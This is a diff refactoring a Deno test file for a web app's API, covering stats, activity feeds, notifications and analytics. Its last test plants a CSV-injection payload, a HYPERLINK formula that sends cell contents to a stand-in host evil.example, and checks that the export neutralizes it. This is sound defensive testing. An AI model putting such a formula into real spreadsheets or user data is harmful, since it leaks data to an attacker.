@@ -1,16 +1,16 @@
 // deno-lint-ignore-file no-explicit-any
 import assert from "node:assert/strict";
-import { createTestApp } from "../testing.ts";
+import { expectJson, withTestApp } from "../testing.ts";
 import { eq } from "drizzle-orm";
 import { users } from "../../db/schema/mod.ts";
 
-Deno.test("[api] GET /api/stats answers numbers and change strings for every period", async () => {
-  const t = await createTestApp();
-  try {
+Deno.test("[api] GET /api/stats answers numbers and change strings for every period", () =>
+  withTestApp(async (t) => {
     for (const period of ["7d", "30d", "90d", "1y", "all"]) {
-      const res = await t.request(`/api/stats?period=${period}`, { as: "engineer@demo.local" });
-      assert.equal(res.status, 200);
-      const s = await res.json();
+      const s = await expectJson(
+        t.request(`/api/stats?period=${period}`, { as: "engineer@demo.local" }),
+        200,
+      );
       for (const key of ["activeProjects", "tasksInProgress", "completedTasks", "teamSize", "revenue"]) {
         assert.equal(typeof s[key], "number", key);
       }
@@ -30,14 +30,10 @@ Deno.test("[api] GET /api/stats answers numbers and change strings for every per
     const other = await (await t.request("/api/stats", { as: "admin@other.local" })).json();
     assert.equal(other.activeProjects, 2);
     assert.equal(other.teamSize, 1);
-  } finally {
-    await t.close();
-  }
-});
+  }));
 
-Deno.test("[api] GET /api/activity and /api/activities answer the same feed of the company", async () => {
-  const t = await createTestApp();
-  try {
+Deno.test("[api] GET /api/activity and /api/activities answer the same feed of the company", () =>
+  withTestApp(async (t) => {
     const a: any[] = await (await t.request("/api/activity", { as: "engineer@demo.local" })).json();
     const b: any[] = await (await t.request("/api/activities", { as: "engineer@demo.local" })).json();
     assert.ok(a.length > 0);
@@ -51,35 +47,23 @@ Deno.test("[api] GET /api/activity and /api/activities answer the same feed of t
     }
     const other: any[] = await (await t.request("/api/activity", { as: "admin@other.local" })).json();
     assert.equal(other.length, 0);
-  } finally {
-    await t.close();
-  }
-});
+  }));
 
-Deno.test("[api] PUT /api/notifications/mark-all-read leaves nothing unread", async () => {
-  const t = await createTestApp();
-  try {
+Deno.test("[api] PUT /api/notifications/mark-all-read leaves nothing unread", () =>
+  withTestApp(async (t) => {
     const before: any[] = await (await t.request("/api/notifications", { as: "surveyor@demo.local" })).json();
     assert.ok(before.some((n) => !n.isRead));
-    const res = await t.request("/api/notifications/mark-all-read", {
-      as: "surveyor@demo.local",
-      method: "PUT",
-      headers: { Origin: "http://localhost" },
-    });
+    const res = await t.as("surveyor@demo.local").put("/api/notifications/mark-all-read");
     assert.equal(res.status, 200);
     const after: any[] = await (await t.request("/api/notifications", { as: "surveyor@demo.local" })).json();
     assert.equal(after.filter((n) => !n.isRead).length, 0);
     const count = await (await t.request("/api/notifications/unread-count", { as: "surveyor@demo.local" }))
       .json();
     assert.equal(count.count, 0);
-  } finally {
-    await t.close();
-  }
-});
+  }));
 
-Deno.test("[api] GET /api/analytics answers KPIs, money and recommendations; each table downloads as CSV", async () => {
-  const t = await createTestApp();
-  try {
+Deno.test("[api] GET /api/analytics answers KPIs, money and recommendations; each table downloads as CSV", () =>
+  withTestApp(async (t) => {
     const a = await (await t.request("/api/analytics?period=all", { as: "engineer@demo.local" })).json();
     assert.equal(a.kpi.activeObjects, 8);
     assert.equal(a.kpi.overdueTasks, 2);
@@ -103,10 +87,7 @@ Deno.test("[api] GET /api/analytics answers KPIs, money and recommendations; eac
     const page = await t.request("/analytics?period=all&tab=performance", { as: "engineer@demo.local" });
     assert.equal(page.status, 200);
     assert.match(await page.text(), /<svg[^>]*class="chart bar-chart"[\s\S]*Рекомендации/);
-  } finally {
-    await t.close();
-  }
-});
+  }));
 
 Deno.test("recommend() warns of high workload above 10 active tasks", async () => {
   const { recommend } = await import("../../db/analytics.ts");
@@ -128,9 +109,8 @@ Deno.test("recommend() warns of high workload above 10 active tasks", async () =
   );
 });
 
-Deno.test("[api] GET /api/analytics/export neutralizes a name that a spreadsheet would run as a formula", async () => {
-  const t = await createTestApp();
-  try {
+Deno.test("[api] GET /api/analytics/export neutralizes a name that a spreadsheet would run as a formula", () =>
+  withTestApp(async (t) => {
     const attack = '=HYPERLINK("http://evil.example/?x="&B2,"open")';
     await t.deps.db.update(users).set({ firstName: attack, lastName: "+7" })
       .where(eq(users.email, "surveyor@demo.local"));
@@ -143,7 +123,4 @@ Deno.test("[api] GET /api/analytics/export neutralizes a name that a spreadsheet
     for (const cell of cells) {
       assert.doesNotMatch(cell.replace(/^"/, ""), /^[=+@\t\r]/, `cell ${JSON.stringify(cell)}`);
     }
-  } finally {
-    await t.close();
-  }
-});
+  }));
